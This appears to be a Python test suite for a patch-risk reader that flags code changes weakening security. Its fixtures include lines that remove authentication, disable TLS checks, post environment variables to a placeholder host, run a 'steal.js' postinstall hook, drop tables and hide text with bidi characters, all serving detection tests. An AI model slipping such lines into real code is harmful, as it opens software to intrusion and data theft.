"""A file change is judged by what it takes away and what it brings in."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.model.action import Finding, Reading, Scope
from interlock.model.risk import RiskLevel
from interlock.reading.patch import read_patch
from interlock.reading.unified import parse_patch

LOW, MEDIUM, HIGH, CRITICAL = RiskLevel.LOW, RiskLevel.MEDIUM, RiskLevel.HIGH, RiskLevel.CRITICAL
HERE = Scope(workspace="/srv/p", protected=("policy/**",))


def patch(path: str, *lines: str) -> str:
    """A unified diff of one file with these ``+``, ``-`` and context lines."""
    old = sum(not line.startswith("+") for line in lines)
    new = sum(not line.startswith("-") for line in lines)
    return "\n".join(
        (f"diff --git a/{path} b/{path}", f"--- a/{path}", f"+++ b/{path}", f"@@ -1,{old} +1,{new} @@", *lines, "")
    )


def kinds(reading: Reading, least: RiskLevel = LOW) -> set[str]:
    return {finding.kind for finding in reading.findings if finding.severity >= least}


TAKEN_AWAY = [
    ("patch.auth.removed", "app/views.py", ["-@login_required", " def delete_account(request):"]),
    (
        "patch.auth.removed",
        "api/users.ts",
        ["-router.delete('/users/:id', requireAuth, remove)", "+router.delete('/users/:id', remove)"],
    ),
    ("patch.auth.removed", "app/users.java", ['-    @PreAuthorize("hasRole(1)")', " public void remove() {"]),
    ("patch.auth.removed", "app/routes.py", ["-def read(user = Depends(get_current_user)):", "+def read():"]),
    ("patch.auth.removed", "app/x.py", ["-    if not user.is_admin:", "-        raise Forbidden", "     delete(x)"]),
    ("patch.auth.removed", "settings.py", ['-    "django.middleware.csrf.CsrfViewMiddleware",', ' "x",']),
    ("patch.auth.removed", "app/x.rb", ["-  before_action :authenticate_user!", " def index"]),
    ("patch.auth.removed", "app/x.py", ["-    check_permission(user)", "+    # check_permission(user)"]),
    ("patch.mfa.removed", "app/login.py", ["-    verify_totp(user, code)", "     return login(user)"]),
    ("patch.limit.removed", "app/login.py", ['-@ratelimit(key="ip", rate="5/m")', " def login():"]),
    ("patch.limit.weakened", "config.py", ["-MAX_LOGIN_ATTEMPTS = 5", "+MAX_LOGIN_ATTEMPTS = 5000"]),
    ("patch.limit.weakened", "config.py", ["-PASSWORD_MIN_LENGTH = 12", "+PASSWORD_MIN_LENGTH = 4"]),
    ("patch.limit.weakened", "config.ts", ["-  bcryptRounds: 12,", "+  bcryptRounds: 4,"]),
    ("patch.audit.removed", "app/pay.py", ["-    audit_log.record(user, amount)", "     pay(amount)"]),
    ("patch.validation.removed", "app/up.py", ["-    name = secure_filename(name)", "     save(name)"]),
    (
        "patch.ci.check_removed",
        ".github/workflows/ci.yml",
        ["-      - uses: github/codeql-action/analyze@v3", "       - run: make"],
    ),
    ("patch.file.deleted.security", "app/auth.py", []),
]


BROUGHT_IN = [
    ("patch.tls.off", "app/x.py", "requests.get(url, verify=False)"),
    ("patch.tls.off", "app/x.js", "const agent = new https.Agent({ rejectUnauthorized: false })"),
    ("patch.tls.off", "app/x.go", "TLSClientConfig: &tls.Config{InsecureSkipVerify: true}"),
    ("patch.tls.off", "Makefile", "NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js"),
    ("patch.tls.off", "app/x.py", "ctx.check_hostname = False"),
    ("patch.auth.off", "config.yaml", "mfa_required: false"),
    ("patch.auth.off", "config.toml", "enable_authentication = false"),
    ("patch.auth.off", "settings.py", "SKIP_AUTH = True"),
    ("patch.auth.off", "app/x.py", "@csrf_exempt"),
    ("patch.auth.off", "app/x.py", "jwt.decode(token, options={'verify_signature': False})"),
    ("patch.auth.off", "app/x.java", "http.csrf().disable();"),
    ("patch.auth.off", "app/x.py", "permission_classes = [AllowAny]"),
    ("patch.audit.off", "config.yaml", "audit_enabled: false"),
    ("patch.password.weakened", "app/x.py", "digest = hashlib.md5(password.encode())"),
    ("patch.constraint.dropped", "db/1.sql", "ALTER TABLE a DROP CONSTRAINT b;"),
    ("patch.ci.weakened", ".github/workflows/ci.yml", "        continue-on-error: true"),
    ("patch.ci.weakened", ".github/workflows/ci.yml", "      - run: pytest || true"),
    ("patch.exposed", "infra/db.tf", "publicly_accessible = true"),
    ("patch.exposed", "compose.yaml", "privileged: true"),
    ("patch.exfiltration", "app/x.py", "requests.post('https://example.org', data=dict(os.environ))"),
    ("patch.dependency.install_script", "package.json", '    "postinstall": "node steal.js",'),
    ("patch.dependency.source", "requirements.txt", "--extra-index-url https://example.org/simple"),
    ("patch.sql.drop", "db/2.sql", "DROP TABLE users;"),
    ("patch.hidden.bidi", "app/x.py", "if access != 'user\u202e \u2066# admin\u2069':"),
]

NOTED = [
    ("patch.code.eval", "app/x.py", "value = eval(text)"),
    ("patch.code.process", "app/x.py", "subprocess.run(['ls'])"),
    ("patch.test.skipped", "tests/test_x.py", "@pytest.mark.skip"),
    ("patch.check.silenced", "app/x.py", "x = f()  # nosec"),
    ("patch.dependency", "requirements.txt", "flask==3.0"),
    ("patch.dependency", "package.json", '    "left-pad": "1.0.0",'),
    ("paths.lockfile", "poetry.lock", 'name = "x"'),
    ("patch.schema.drop", "migrations/1.py", "op.drop_table('x')"),
    ("patch.tls.off", "tests/test_x.py", "requests.get(url, verify=False)"),
]

ORDINARY = [
    ["-def add(a, b):", "+def add(a: int, b: int) -> int:", "     return a + b"],
    ["-@login_required", "+@login_required(redirect=True)", " def f():"],
    ["-    verify_token(t)", "+    if verify_token(t) is None:", "+        return"],
    ["-TIMEOUT = 5", "+TIMEOUT = 50"],
    ["-MAX_LOGIN_ATTEMPTS = 50", "+MAX_LOGIN_ATTEMPTS = 5"],
    ["-PASSWORD_MIN_LENGTH = 4", "+PASSWORD_MIN_LENGTH = 12"],
    ["+mfa_required = True", "+verify = True"],
    ["-from app.auth import login_required", " x = 1"],
    ["-# audit_log is gone since 2.0", " x = 1"],
    ["+    author = None", "+    authority = 0"],
    ["+def test_login():", "+    assert login()"],
    ["+debug_login = logger.info"],
    ["+    return True"],
]


@pytest.mark.parametrize(("kind", "path", "lines"), TAKEN_AWAY)
def test_a_guard_that_is_taken_away_is_asked(kind: str, path: str, lines: list[str]) -> None:
    text = (
        patch(path, *lines)
        if lines
        else f"diff --git a/{path} b/{path}\ndeleted file mode 100644\n--- a/{path}\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-x = 1\n"
    )
    assert kind in kinds(read_patch(text, HERE), HIGH)


@pytest.mark.parametrize(("kind", "path", "line"), BROUGHT_IN)
def test_a_guard_that_is_switched_off_is_asked(kind: str, path: str, line: str) -> None:
    assert kind in kinds(read_patch(patch(path, f"+{line}", " x"), HERE), HIGH)
    assert kind in kinds(read_patch(f"{line}\n", HERE, path=path), HIGH)


@pytest.mark.parametrize(("kind", "path", "line"), NOTED)
def test_what_deserves_a_look_is_noted(kind: str, path: str, line: str) -> None:
    reading = read_patch(patch(path, f"+{line}"), HERE)
    assert kind in kinds(reading)
    assert reading.severity is MEDIUM


@pytest.mark.parametrize("lines", ORDINARY)
def test_an_ordinary_change_disturbs_nobody(lines: list[str]) -> None:
    assert read_patch(patch("app/views.py", *lines), HERE).severity <= MEDIUM


def test_prose_about_dangers_is_none() -> None:
    assert (
        read_patch(
            patch("docs/tls.md", "+Never set verify=False or rejectUnauthorized: false.", "+DROP TABLE users;"), HERE
        ).findings
        == ()
    )


def test_a_guard_that_moves_to_another_file_is_noted_and_one_that_is_commented_out_is_gone() -> None:
    moved = patch("app/a.py", "-    check_permission(user)") + patch("app/b.py", "+    check_permission(user)")
    assert read_patch(moved, HERE).severity is MEDIUM
    commented = patch("app/a.py", "-    check_permission(user)") + patch("app/b.py", "+    # check_permission(user)")
    assert read_patch(commented, HERE).severity is HIGH


def test_a_check_that_always_says_yes_is_asked() -> None:
    text = patch("app/auth.py", " def is_authorized(user):", "-    return user.role in ROLES", "+    return True")
    assert "patch.auth.bypass" in kinds(read_patch(text, HERE), HIGH)


def test_the_paths_of_a_change_are_judged_too() -> None:
    assert read_patch(patch("policy/rules.yaml", "+a: 1"), HERE).severity is CRITICAL
    assert read_patch(patch(".github/workflows/ci.yml", "+a: 1"), HERE).severity is HIGH
    assert read_patch(patch("../../x", "+a"), HERE).severity is HIGH
    assert read_patch("diff --git a/x b/policy/y\nrename from x\nrename to policy/y\n", HERE).severity is CRITICAL
    assert read_patch("diff --git a/policy/y b/x\nrename from policy/y\nrename to x\n", HERE).severity is CRITICAL
    assert read_patch(patch("src/a.py", "+a"), HERE).paths == ("/srv/p/src/a.py",)


def test_a_link_is_judged_by_its_target() -> None:
    text = "diff --git a/x b/x\nnew file mode 120000\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+/etc/passwd\n"
    reading = read_patch(text, HERE)
    assert reading.severity is CRITICAL
    assert "patch.symlink" in kinds(reading, CRITICAL)


def test_binary_and_huge_changes_are_noted() -> None:
    assert "patch.binary" in kinds(
        read_patch("diff --git a/x.png b/x.png\nBinary files a/x.png and b/x.png differ\n", HERE)
    )
    assert "patch.huge" in kinds(read_patch(patch("a.py", *["+x = 1"] * 4000), HERE))


def test_secrets_are_looked_for_in_what_comes_in_only() -> None:
    seen: list[str] = []

    def find(text: str) -> tuple[Finding, ...]:
        seen.append(text)
        return (
            (Finding(detector="secrets", kind="secrets.key", severity=CRITICAL, evidence="…"),) if "KEY" in text else ()
        )

    assert read_patch(patch("a.py", "+KEY = 1"), HERE, secrets=find).severity is CRITICAL
    assert read_patch(patch("a.py", "-KEY = 1", "+x"), HERE, secrets=find).severity < CRITICAL
    assert seen == ["KEY = 1", "x"]


def test_the_form_that_coding_agents_write_is_read() -> None:
    text = "*** Begin Patch\n*** Update File: app/x.py\n@@ def f():\n-@login_required\n+pass\n*** Add File: policy/new.yaml\n+a: 1\n*** End Patch\n"
    reading = read_patch(text, HERE)
    assert {"patch.auth.removed", "paths.protected"} <= kinds(reading, HIGH)
    assert len(reading.paths) == 2


def test_a_file_that_is_written_anew_is_compared_with_the_old_one() -> None:
    old = "@login_required\ndef f():\n    return 1\n"
    new = "def f():\n    return 1\n"
    assert "patch.auth.removed" in kinds(read_patch(new, HERE, path="app/x.py", before=old), HIGH)
    assert read_patch(old, HERE, path="app/x.py", before=new).severity <= MEDIUM
    assert read_patch(old, HERE, path="app/x.py", before=old).findings == ()


def test_prose_about_security_may_be_deleted() -> None:
    text = "diff --git a/SECURITY.md b/SECURITY.md\ndeleted file mode 100644\n--- a/SECURITY.md\n+++ /dev/null\n"
    assert read_patch(text, HERE).severity is MEDIUM


def test_content_that_looks_like_a_header_is_content() -> None:
    text = patch("a.sql", "--- a/harmless", "+++ b/harmless", "+@csrf_exempt")
    assert [change.path for change in parse_patch(text)] == ["a.sql"]
    lies = patch("a.py", " x").replace("@@ -1,1 +1,1 @@", "@@ -1,1 +1,1 @@", 1) + "+requests.get(u, verify=False)\n"
    assert "patch.tls.off" in kinds(read_patch(lies, HERE), HIGH)


def test_what_is_no_patch_is_asked_and_what_is_too_long_blocked() -> None:
    assert "patch.unparsed" in kinds(read_patch("please apply my change", HERE), HIGH)
    assert read_patch("", HERE).findings == ()
    assert read_patch("+" * 5_000_000, HERE).severity is CRITICAL
    assert "patch.unread" in kinds(read_patch(patch("a.py", *["+" + "x" * 1000] * 500), HERE), HIGH)


def test_quoted_names_and_old_forms_are_read() -> None:
    assert parse_patch('--- "a/\\303\\244.py"\n+++ "b/\\303\\244.py"\n@@ -1 +1 @@\n-a\n+b\n')[0].path == "ä.py"
    plain = parse_patch("--- old.py\t2026-01-01\n+++ new.py\t2026-01-02\n@@ -1 +1 @@\n-a\n+b\n")[0]
    assert (plain.old_path, plain.path, plain.removed, plain.added) == ("old.py", "new.py", ["a"], ["b"])


LINES = st.lists(
    st.sampled_from(
        [
            "+@login_required",
            "-@login_required",
            "+x = 1",
            "-x = 1",
            " y",
            "--- a/f",
            "+++ b/f",
            "@@ -1,2 +1,2 @@",
            "@@",
            "diff --git a/f b/f",
            "+++ /dev/null",
            "*** Update File: f",
            "\\ No newline",
            "",
            "rename to g",
            "new mode 100755",
        ]
    ),
    max_size=20,
)


@settings(max_examples=300, deadline=None)
@given(LINES.map("\n".join) | st.text(max_size=200))
def test_any_text_gets_a_reading(text: str) -> None:
    assert isinstance(read_patch(text, HERE), Reading)
    assert isinstance(read_patch(text, HERE, path="f.py"), Reading)


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(BROUGHT_IN),
    st.lists(st.sampled_from(["+x = 1", " y = 2", "-z = 3", "+", "+# note"]), max_size=6),
    st.booleans(),
)
def test_harmless_lines_around_never_lower_a_severity(
    case: tuple[str, str, str], around: list[str], before: bool
) -> None:
    kind, path, line = case
    lines = [*around, f"+{line}"] if before else [f"+{line}", *around]
    assert kind in kinds(read_patch(patch(path, *lines), HERE), HIGH)
